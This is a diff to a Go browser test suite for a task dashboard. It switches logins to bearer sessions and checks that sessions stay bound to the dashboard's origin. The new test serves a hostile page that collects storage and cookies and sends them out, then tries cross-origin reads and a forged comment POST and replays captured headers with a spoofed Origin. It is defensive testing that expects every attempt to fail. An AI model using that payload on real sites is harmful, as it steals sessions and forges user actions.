@@ -7,8 +7,8 @@ import (
 	"encoding/json"
 	"fmt"
 	"io"
+	"maps"
 	"net/http"
-	"net/http/cookiejar"
 	"net/http/httptest"
 	"os"
 	"os/exec"
@@ -19,6 +19,7 @@ import (
 	"time"
 
 	"github.com/chromedp/cdproto/browser"
+	"github.com/chromedp/cdproto/page"
 	"github.com/chromedp/cdproto/runtime"
 	"github.com/chromedp/chromedp"
 	bolt "go.etcd.io/bbolt"
@@ -48,20 +49,46 @@ func uiURL(t *testing.T, w *workspace, env []string, extra ...string) string {
 	return first
 }
 
-// loggedInClient logs a Go HTTP client in with a fresh token.
-func loggedInClient(t *testing.T, login string) *http.Client {
+// bearerTransport sends a session secret in every request's Authorization
+// header, as the dashboard's pages do.
+type bearerTransport struct{ session string }
+
+func (b bearerTransport) RoundTrip(r *http.Request) (*http.Response, error) {
+	r = r.Clone(r.Context())
+	r.Header.Set("Authorization", "Bearer "+b.session)
+	return http.DefaultTransport.RoundTrip(r)
+}
+
+// exchangeToken posts a login URL's token to the dashboard as its login
+// page does, from the dashboard's own origin, and returns the status and
+// the session secret.
+func exchangeToken(t *testing.T, login string) (int, string) {
 	t.Helper()
-	jar, _ := cookiejar.New(nil)
-	c := &http.Client{Jar: jar, Timeout: 30 * time.Second}
-	res, err := c.Get(login)
+	base := login[:strings.Index(login, "/login")]
+	tok := login[strings.Index(login, "token=")+len("token="):]
+	req, _ := http.NewRequest("POST", base+"/api/login", strings.NewReader(`{"token":"`+tok+`"}`))
+	req.Header.Set("Origin", base)
+	req.Header.Set("Content-Type", "application/json")
+	res, err := http.DefaultClient.Do(req)
 	if err != nil {
 		t.Fatal(err)
 	}
-	res.Body.Close()
-	if res.StatusCode != 200 {
-		t.Fatalf("login: %d", res.StatusCode)
+	defer res.Body.Close()
+	var out struct {
+		Session string `json:"session"`
 	}
-	return c
+	_ = json.NewDecoder(res.Body).Decode(&out)
+	return res.StatusCode, out.Session
+}
+
+// loggedInClient logs a Go HTTP client in with a fresh token.
+func loggedInClient(t *testing.T, login string) *http.Client {
+	t.Helper()
+	code, session := exchangeToken(t, login)
+	if code != 200 || session == "" {
+		t.Fatalf("login: %d", code)
+	}
+	return &http.Client{Transport: bearerTransport{session}, Timeout: 30 * time.Second}
 }
 
 func artifactDir(t *testing.T) string {
@@ -173,21 +200,22 @@ func TestUIDashboardInBrowser(t *testing.T) {
 	}()
 
 	t.Run("refusals", func(t *testing.T) {
-		res, err := http.Get(base + "/board")
+		res, err := http.Get(base + "/view/board")
 		if err != nil {
 			t.Fatal(err)
 		}
 		res.Body.Close()
 		if res.StatusCode != 401 {
-			t.Errorf("no cookie: %d, want 401", res.StatusCode)
+			t.Errorf("no session: %d, want 401", res.StatusCode)
 		}
 		c := loggedInClient(t, uiURL(t, w, env, "--allow-actions"))
 		for _, tc := range []struct {
 			name, method, path, host, origin string
 			want                             int
 		}{
-			{"cookie", "GET", "/board", "", "", 200},
-			{"wrong host", "GET", "/board", "evil.example:" + port, "", 421},
+			{"session", "GET", "/view/board", "", "", 200},
+			{"wrong host", "GET", "/view/board", "evil.example:" + port, "", 421},
+			{"another port's origin", "GET", "/view/system", "", "http://127.0.0.1:1", 403},
 			{"foreign origin", "POST", "/api/task/" + moved + "/action", "", "http://evil.example", 403},
 			{"post without origin", "POST", "/api/task/" + moved + "/action", "", "", 403},
 			{"foreign origin read", "GET", "/api/tasks", "", "http://evil.example", 403},
@@ -234,12 +262,20 @@ func TestUIDashboardInBrowser(t *testing.T) {
 	defer cancelT()
 	art := artifactDir(t)
 	card := func(id string) string { return fmt.Sprintf(`.card[data-task=%q]`, id) }
+	chromedp.ListenTarget(ctx, func(ev any) { // the page's own errors and alerts, to read when a step fails
+		switch e := ev.(type) {
+		case *runtime.EventExceptionThrown:
+			t.Logf("page exception: %s", e.ExceptionDetails.Error())
+		case *page.EventJavascriptDialogOpening:
+			t.Logf("page dialog: %s", e.Message)
+		}
+	})
 
 	if err := chromedp.Run(ctx, chromedp.EmulateViewport(1280, 800), chromedp.Navigate(login), chromedp.WaitVisible(card(moved)), chromedp.WaitVisible(`#live.on`)); err != nil {
 		t.Fatalf("log in and see the board: %v", err)
 	}
-	if res, err := http.Get(login); err != nil || res.StatusCode != 401 {
-		t.Errorf("second use of a login token: %v %v, want 401", res.StatusCode, err)
+	if code, _ := exchangeToken(t, login); code != 401 {
+		t.Errorf("second use of a login token: %d, want 401", code)
 	}
 	// A marker that a reload would erase.
 	if err := chromedp.Run(ctx, chromedp.Evaluate(`window.noReload = 1`, nil)); err != nil {
@@ -462,7 +498,7 @@ func TestUIDashboardInBrowser(t *testing.T) {
 		}
 		// A read-only login still sees every page whole: its READONLY
 		// session refuses writes, not the pages' reads.
-		for _, pg := range []string{"/board", "/task/" + moved, "/audits", "/sdd", "/system", "/api/tasks?status=todo"} {
+		for _, pg := range []string{"/view/board", "/view/task/" + moved, "/view/audits", "/view/sdd", "/view/system", "/api/tasks?status=todo"} {
 			res, err := reader.Get(base + pg)
 			if err != nil {
 				t.Fatal(err)
@@ -486,7 +522,10 @@ func TestUIDashboardInBrowser(t *testing.T) {
 		chromedp.Navigate(base+"/audits/"+proof), chromedp.Click(`a[href$="/bundle"]`, chromedp.ByQuery)); err != nil {
 		t.Fatalf("download the bundle from the page: %v", err)
 	}
-	eventually(t, 15*time.Second, "the browser to save "+downloaded, func() bool {
+	// The page fetches the bundle with its session and saves it from a
+	// blob; while 10,000 tasks are being created, the export alone can take
+	// seconds on two shared cores.
+	eventually(t, 60*time.Second, "the browser to save "+downloaded, func() bool {
 		st, err := os.Stat(downloaded)
 		return err == nil && st.Size() > 0
 	})
@@ -498,7 +537,7 @@ func TestUIDashboardInBrowser(t *testing.T) {
 	// An open session has no bundle yet: refused, saying so.
 	open := ok(t, agent, "audit_session_start", map[string]any{"task_id": moved, "auditor_id": "reviewer"})["session_id"].(string)
 	c := loggedInClient(t, uiURL(t, w, env))
-	if res, err := c.Get(base + "/audits/" + open + "/bundle"); err != nil || res.StatusCode != 409 {
+	if res, err := c.Get(base + "/api/audits/" + open + "/bundle"); err != nil || res.StatusCode != 409 {
 		t.Errorf("bundle of an open session: %v %v, want 409", res.StatusCode, err)
 	} else {
 		res.Body.Close()
@@ -540,7 +579,7 @@ func TestUIDashboardInBrowser(t *testing.T) {
 	// Every task request the page made returns at most one page: fetch
 	// each URL it requested again and count.
 	var perRequest []int
-	if err := chromedp.Run(ctx, chromedp.Evaluate(`Promise.all(performance.getEntriesByType("resource").map((e) => e.name).filter((u) => u.includes("/api/tasks")).map((u) => fetch(u).then((r) => r.json()).then((j) => j.tasks.length)))`,
+	if err := chromedp.Run(ctx, chromedp.Evaluate(`Promise.all(performance.getEntriesByType("resource").map((e) => e.name).filter((u) => u.includes("/api/tasks")).map((u) => fetch(u, {headers: {Authorization: "Bearer " + sessionStorage.getItem("cairn.session")}}).then((r) => r.json()).then((j) => j.tasks.length)))`,
 		&perRequest, func(p *runtime.EvaluateParams) *runtime.EvaluateParams { return p.WithAwaitPromise(true) })); err != nil {
 		t.Fatal(err)
 	}
@@ -635,4 +674,191 @@ func tamperThought(t *testing.T, w *workspace, task uint64, pos uint64, from, to
 	}); err != nil {
 		t.Fatal(err)
 	}
+}
+
+// captured is one request a server on another loopback port received from
+// the person's browser: everything that server could keep and replay.
+type captured struct {
+	Method, Path string
+	Header       http.Header
+}
+
+// The login is bound to the dashboard's origin: after logging in, the person
+// visits a page served on another loopback port. That server records every
+// request it receives (headers, cookies) and its page tries to read and act
+// on the dashboard from the browser; then everything it captured is replayed
+// against every path of the dashboard, with the dashboard's own Origin
+// forged. Nothing reads, nothing acts, and the dashboard still works in the
+// browser.
+func TestUIDashboardLoginStaysWithItsOrigin(t *testing.T) {
+	chrome := chromiumPath()
+	if chrome == "" {
+		t.Skip("no chromium binary found (apt-get install chromium); the dashboard's browser test cannot run")
+	}
+	w := newWorkspace(t)
+	env := []string{"CAIRN_DAEMON=on", "CAIRN_DAEMON_IDLE=60s", "CAIRN_PROJECT=web", "CAIRN_USER=alice"}
+	t.Cleanup(func() { runCairn(t, w, "", env, "stop") })
+	agent := w.serve(append(env, "CAIRN_AGENT_ID=agent-a")...)
+	defer agent.close()
+	const title = "Guard the dashboard"
+	task := taskID(t, agent, map[string]any{"title": title, "project": "web"})
+	ok(t, agent, "thought_record", map[string]any{"task_id": task, "type": "decision", "content": "Sessions live in the origin"})
+	sealed := ok(t, agent, "audit_session_start", map[string]any{"task_id": task, "auditor_id": "reviewer"})["session_id"].(string)
+	ok(t, agent, "merkle_finalize", map[string]any{"session_id": sealed})
+	thoughts := func() []any {
+		return ok(t, agent, "thought_record_list", map[string]any{"task_id": task})["thoughts"].([]any)
+	}
+	before := len(thoughts())
+
+	login := uiURL(t, w, env, "--allow-actions")
+	base := login[:strings.Index(login, "/login")]
+
+	// The other server: it records every request and serves a page that
+	// tries, from the browser, to read the dashboard and to act on it.
+	var mu sync.Mutex
+	var got []captured
+	reports := map[string]string{}
+	evil := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		got = append(got, captured{Method: r.Method, Path: r.URL.RequestURI(), Header: r.Header.Clone()})
+		if r.URL.Path == "/report" {
+			reports[r.URL.Query().Get("k")] = r.URL.Query().Get("v")
+		}
+		mu.Unlock()
+		if r.URL.Path != "/" {
+			rw.WriteHeader(204)
+			return
+		}
+		rw.Header().Set("Content-Type", "text/html; charset=utf-8")
+		fmt.Fprintf(rw, `<!doctype html><title>elsewhere</title><img src="/pixel"><script>
+const d = %q, report = (k, v) => fetch("/report?" + new URLSearchParams({k: k, v: String(v)}));
+const tries = [
+  report("storage", JSON.stringify({session: Object.assign({}, sessionStorage), local: Object.assign({}, localStorage), cookie: document.cookie})),
+  fetch(d + "/api/tasks", {credentials: "include"}).then((r) => r.text()).then((b) => report("read", b), (e) => report("read", "refused: " + e)),
+  fetch(d + "/api/task/%s/action", {method: "POST", mode: "no-cors", credentials: "include", headers: {"Content-Type": "text/plain"},
+    body: JSON.stringify({action: "comment", content: "written from another origin"})}).then((r) => report("act", r.type), (e) => report("act", "refused: " + e)),
+];
+Promise.allSettled(tries).then(() => { document.title = "done"; });
+</script>`, base, task)
+	}))
+	defer evil.Close()
+
+	opts := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath(chrome), chromedp.NoSandbox, chromedp.WindowSize(1280, 800), chromedp.Flag("disable-gpu", true))
+	actx, cancelA := chromedp.NewExecAllocator(context.Background(), opts...)
+	defer cancelA()
+	ctx, cancel := chromedp.NewContext(actx, chromedp.WithErrorf(func(string, ...any) {}))
+	defer cancel()
+	ctx, cancelT := context.WithTimeout(ctx, 90*time.Second)
+	defer cancelT()
+	card := fmt.Sprintf(`.card[data-task=%q]`, task)
+	chromedp.ListenTarget(ctx, func(ev any) { // the page's own errors, to read when a step fails
+		if e, ok := ev.(*runtime.EventExceptionThrown); ok {
+			t.Logf("page exception: %s", e.ExceptionDetails.Error())
+		}
+	})
+	if err := chromedp.Run(ctx, chromedp.Navigate(login), chromedp.WaitVisible(card), chromedp.WaitVisible(`#live.on`)); err != nil {
+		t.Fatalf("log in and see the board: %v", err)
+	}
+	if err := chromedp.Run(ctx, chromedp.Navigate(evil.URL+"/"), chromedp.Poll(`document.title === "done"`, nil)); err != nil {
+		t.Fatalf("visit the other port's page: %v", err)
+	}
+	mu.Lock()
+	caps := append([]captured(nil), got...)
+	rep := maps.Clone(reports)
+	mu.Unlock()
+	if len(caps) < 3 {
+		t.Fatalf("the other server saw %d requests, want the page, its image and its reports", len(caps))
+	}
+	t.Logf("the other server captured %d requests; its page reports %v; first %v", len(caps), rep, caps[0])
+	if strings.Contains(rep["read"], title) {
+		t.Errorf("the other origin's page read the dashboard: %s", rep["read"])
+	}
+
+	// Replay everything captured against every path of the dashboard, as
+	// curl would: the captured headers (cookies included) with the
+	// dashboard's own Origin forged, under both the captured Host and the
+	// dashboard's own.
+	paths := []struct{ method, path, body string }{
+		{"GET", "/", ""}, {"GET", "/board", ""}, {"GET", "/task/" + task, ""}, {"GET", "/audits", ""},
+		{"GET", "/audits/" + sealed, ""}, {"GET", "/audits/" + sealed + "/bundle", ""}, {"GET", "/sdd", ""}, {"GET", "/system", ""},
+		{"GET", "/view/board", ""}, {"GET", "/view/task/" + task, ""}, {"GET", "/view/system", ""}, {"GET", "/view/audits/" + sealed, ""},
+		{"GET", "/api/tasks?project=web&status=backlog", ""}, {"GET", "/events", ""},
+		{"POST", "/api/task/" + task + "/action", `{"action":"comment","content":"replayed from another origin"}`},
+		{"GET", "/api/audits/" + sealed + "/bundle", ""}, {"POST", "/login", ""}, {"POST", "/api/login", `{"token":""}`},
+	}
+	secrets := []string{title, "alice", sealed, "Sessions live in the origin"}
+	client := &http.Client{Timeout: 10 * time.Second, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
+	opened := 0
+	for i, c := range caps {
+		for _, host := range []string{"", c.Header.Get("Host")} {
+			for _, p := range paths {
+				req, _ := http.NewRequest(p.method, base+p.path, strings.NewReader(p.body))
+				for k, vs := range c.Header {
+					if k == "Content-Length" {
+						continue
+					}
+					req.Header[k] = append([]string(nil), vs...)
+				}
+				if host != "" {
+					req.Host = host
+				}
+				req.Header.Set("Origin", base)
+				req.Header.Set("Content-Type", "application/json")
+				res, err := client.Do(req)
+				if err != nil {
+					t.Fatalf("replay %s %s: %v", p.method, p.path, err)
+				}
+				var body []byte
+				if !strings.HasPrefix(res.Header.Get("Content-Type"), "text/event-stream") {
+					body, _ = io.ReadAll(io.LimitReader(res.Body, 1<<20))
+				}
+				res.Body.Close()
+				leak := ""
+				for _, s := range secrets {
+					if bytes.Contains(body, []byte(s)) {
+						leak = s
+					}
+				}
+				if res.StatusCode < 300 && (leak != "" || strings.HasPrefix(res.Header.Get("Content-Type"), "text/event-stream") || p.method == "POST") {
+					opened++
+					if opened <= 12 {
+						t.Errorf("request %d (%s %s) replayed as %s %s (Host %q) opened it: %d %s, showing %q", i, c.Method, c.Path, p.method, p.path, host, res.StatusCode, res.Header.Get("Content-Type"), leak)
+					}
+				}
+			}
+		}
+	}
+	if opened > 0 {
+		t.Errorf("%d replays of what the other server captured opened the dashboard", opened)
+	}
+	if n := len(thoughts()); n != before {
+		t.Fatalf("T's trail grew from %d to %d thoughts: another origin acted on it", before, n)
+	}
+
+	// The dashboard still works in the browser: the board loads and goes
+	// live, and a comment from the task page lands in the trail as alice.
+	if err := chromedp.Run(ctx, chromedp.Navigate(base+"/board"), chromedp.WaitVisible(card), chromedp.WaitVisible(`#live.on`)); err != nil {
+		t.Fatalf("back on the board: %v", err)
+	}
+	if err := chromedp.Run(ctx, chromedp.Navigate(base+"/task/"+task), chromedp.WaitVisible(`form[data-action="comment"] textarea`),
+		chromedp.SetValue(`form[data-action="comment"] textarea`, "Still works from its own origin", chromedp.ByQuery),
+		chromedp.Click(`form[data-action="comment"] button`, chromedp.ByQuery),
+		chromedp.Poll(`document.querySelector(".actions .result").textContent === "Done."`, nil)); err != nil {
+		t.Fatalf("comment from the task page: %v", err)
+	}
+	th := thoughts()
+	last := th[len(th)-1].(map[string]any)
+	if len(th) != before+1 || last["content"] != "Still works from its own origin" || last["recorded_by"] != "alice" {
+		t.Errorf("after the page's comment: %d thoughts, last %v; want %d, the comment by alice", len(th), last, before+1)
+	}
+	// A proof bundle downloads from the page, fetched with the session.
+	dl := t.TempDir()
+	if err := chromedp.Run(ctx, browser.SetDownloadBehavior(browser.SetDownloadBehaviorBehaviorAllow).WithDownloadPath(dl),
+		chromedp.Navigate(base+"/audits/"+sealed), chromedp.Click(`a[href$="/bundle"]`, chromedp.ByQuery)); err != nil {
+		t.Fatalf("download the bundle: %v", err)
+	}
+	eventually(t, 30*time.Second, "the browser to save the bundle", func() bool {
+		b, err := os.ReadFile(filepath.Join(dl, sealed+".proof.json"))
+		return err == nil && bytes.Contains(b, []byte(sealed))
+	})
 }
